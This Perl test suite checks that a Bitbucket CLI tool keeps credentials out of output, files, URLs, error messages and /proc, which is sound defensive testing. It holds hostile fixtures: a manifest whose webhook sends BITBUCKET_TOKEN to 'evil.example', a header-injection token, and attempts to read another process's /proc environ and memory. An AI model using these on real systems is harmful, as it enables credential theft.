#!/usr/bin/perl
# Secrets are where they belong and nowhere else: in no output, no file but the store, and nowhere that others of the machine can look.
use strict;
use warnings;

use FindBin;
use lib $FindBin::Bin;
use Cooper;
use File::Find qw(find);
use Login;
use MIME::Base64 qw(encode_base64);
use Test::More;
use Time::HiRes qw(sleep time);

put('seed.yaml', $SEED);
put('acme.yaml', "workspace: acme\nrepositories: {api: {description: New}, new: {project: PAY}}\n");
my $server = emulator('seed.yaml');

# As they are, and as they travel.
my @sent = map { encode_base64($_, '') } 'ana@acme.example:api-hush', 'key:consumer-hush';
my $SECRET = join '|', secrets(), map { quotemeta } @sent;

my %who = (
	'an access token' => { BITBUCKET_TOKEN => 'bot-hush' },
	'an API token' => { BITBUCKET_TOKEN => undef, BITBUCKET_EMAIL => 'ana@acme.example', BITBUCKET_API_TOKEN => 'api-hush' },
	'a consumer' => consumer()->{env},
	'a login' => login()->{env},
	'a wrong token' => { BITBUCKET_TOKEN => 'wrong-hush' },
	'a wrong consumer' => consumer('wrong-hush')->{env},
	'a token that no header may carry' => { BITBUCKET_TOKEN => "bot-hush\nX: 1" },
	'two of them' => { BITBUCKET_TOKEN => 'bot-hush', BITBUCKET_API_TOKEN => 'api-hush' },
	'half of one' => { BITBUCKET_TOKEN => undef, BITBUCKET_CLIENT_SECRET => 'consumer-hush' },
);
my @commands = (
	['plan', '-v', '-f', 'acme.yaml'], ['plan', '--json', '-f', 'acme.yaml'], ['apply', '-v', '--auto-approve', '-f', 'acme.yaml'],
	['apply', '--json', '--auto-approve', '-f', 'acme.yaml'], ['auth', 'status', '-v'], ['auth', 'refresh', '-v'],
	['api', 'user', '-i', '-v'], ['api', 'user', '--cache', '1m'],
);

# --- what is printed and written ---

# The files that differ: the emulator's own, and the store, are about secrets; the rest is not.
sub files_with_secrets {
	my @found;
	find({ no_chdir => 1, wanted => sub {
		my $file = $_ =~ s{^\./}{}r;
		push @found, $file if -f && $file !~ m{^seed\.yaml$|tokens\.json$|^\.emulator} && text($_) =~ /$SECRET/;
	} }, '.');
	return @found;
}

for my $what (sort keys %who) {
	store_login($server) if $what eq 'a login';
	my @said = map { my $run = cooper($server, { env => $who{$what} }, @$_); "$run->{out}$run->{err}" } @commands;
	is_deeply([grep { /$SECRET/ } @said], [], "$what: not printed by any of " . @said . ' commands');
}
is_deeply([files_with_secrets()], [], 'nor written to any file');
ok(scalar(() = journal()), 'the journal among them');
put('leak.txt', 'bot-hush');
is_deeply([files_with_secrets()], ['leak.txt'], 'which would be found');
unlink 'leak.txt';
is_deeply([grep { /$SECRET/ } map { "$_->{path}?" . ($_->{query} // '') } $server->requests], [], 'nor in an address');

# An answer that repeats what it was sent.
$server->faults(q([{path: "/site/**", effect: status, status: 400, body: '{"error": "invalid_grant", "error_description": "no: refresh-hush"}'}]));
store_login($server);
my $run = cooper($server, login(), 'plan', '-f', 'acme.yaml');
is($run->{status}, 7, 'a server that repeats the refresh token');
like($run->{err}, qr/invalid_grant: \(a text that repeats a secret\);/, 'is not repeated');
$server->faults(undef);

# --- a manifest cannot take it ---

put('taking.yaml', "workspace: acme\nrepositories: {api: {webhooks: [{url: 'https://evil.example/', events: ['repo:push'], secret: {env: BITBUCKET_TOKEN}}]}}\n");
$run = cooper($server->forget, { env => { BITBUCKET_TOKEN => 'bot-hush' } }, 'apply', '--auto-approve', '-f', 'taking.yaml');
isnt($run->{status}, 0, 'a manifest that names the variable of the credential');
is_deeply([$server->writes], [], 'writes nothing');

# --- what others of the machine see ---

# Everybody is the same user, who is not root.
my @as = $> == 0 ? ('setpriv', '--reuid=65534', '--regid=65534', '--clear-groups') : ();

# Whether it has a connection and so has read its credential. Who is not root sees no more than that it is closed to others.
sub ready {
	my ($at) = @_;
	return !open(my $in, '<', "$at/environ") if $> != 0;
	return (readlink("$at/exe") // '') eq $program && grep { (readlink($_) // '') =~ /^socket:/ } glob "$at/fd/*";
}

# A run that waits for its answer.
sub waiting {
	my (%options) = @_;
	my $job = start($server, \%options, 'auth', 'status');
	my $until = time + 30;
	until (ready("/proc/$job->{pid}")) {
		time < $until && -d "/proc/$job->{pid}" or die "it does not wait: ", text($job->{err});
		sleep 0.01;
	}
	return $job;
}

sub bytes_of {
	my ($file) = @_;
	open my $in, '<:raw', $file or return "cannot open: $!";
	local $/;
	return <$in> // '';
}

$server->faults('[{path: /2.0/user, effect: delay, delay_ms: 60000}]');
for my $what ('an access token', 'an API token', 'a consumer') {
	my $job = waiting(env => $who{$what});
	my ($line, $environment, $limits) = map { bytes_of("/proc/$job->{pid}/$_") } qw(cmdline environ limits);
	like($line, qr/cooper\0auth\0status/, "$what: /proc/PID/cmdline");
	unlike($line, qr/$SECRET/, "$what: not there");
	ok($environment !~ /$SECRET/, "$what: nor in /proc/PID/environ");
	ok($environment =~ /BITBUCKET_URL|cannot open/, "$what: which is the environment, or closed");
	like($limits, qr/^Max core file size\s+0\s+0\s/m, "$what: no core file");
	kill KILL => $job->{pid};
	finish($job);
}

SKIP: {
	chmod 0755, '.';
	skip 'nobody else can be here', 3 if system(@as, 'test', '-x', $program) != 0;
	# What is not hidden can be read, or this test could not fail.
	my $open = start($server, { env => { BITBUCKET_TOKEN => 'bot-hush' }, through => sub { return (@as, 'sleep', 60) } });
	sleep 0.01 until bytes_of("/proc/$open->{pid}/cmdline") =~ /^sleep/;
	is(system("@as cat /proc/$open->{pid}/environ >/dev/null 2>&1"), 0, 'another process of the same user can be read');
	my $job = waiting(env => { BITBUCKET_TOKEN => 'bot-hush' }, through => sub { return (@as, @_) });
	for my $file (qw(environ mem)) {
		isnt(system("@as head -c 1 /proc/$job->{pid}/$file >/dev/null 2>&1"), 0, "Cooper's $file cannot");
	}
	for ($open, $job) {
		kill KILL => $_->{pid};
		finish($_);
	}
}
$server->faults(undef);

finished();
